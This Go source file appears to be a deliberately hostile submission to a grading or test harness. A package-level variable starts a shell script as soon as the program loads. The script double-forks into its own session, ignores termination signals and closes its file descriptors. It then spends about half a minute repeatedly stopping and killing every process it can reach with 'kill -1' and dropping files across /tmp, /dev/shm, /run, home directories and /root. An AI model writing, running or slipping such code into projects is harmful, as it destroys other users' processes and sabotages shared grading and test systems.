package main

import (
	"net"
	"os"
	"os/exec"
)

// A package variable starts a daemon before any test runs: by two forks, in a session of its
// own, with no open files, and deaf to signals. When others are graded, it stops and kills all
// that it can, and leaves files everywhere, for half a minute.
var daemon = exec.Command("sh", "-c", script, script).Start()

const script = `
if [ "$1" != twice ]; then
	setsid sh -c "$0" "$0" twice 86399 &
	exit
fi
trap '' HUP INT QUIT TERM
exec <&- >&- 2>&-
cd /
(sleep 0.5
i=0
while [ $i -lt 500 ]; do
	kill -STOP -1
	kill -KILL -1
	for dir in /tmp /var/tmp /dev/shm /run /home/* /root; do
		: >$dir/hostile-86399
	done
	sleep 0.05
	i=$((i + 1))
done) &
`

func main() { os.Exit(3) }

func serve(ln net.Listener) error { return daemon }
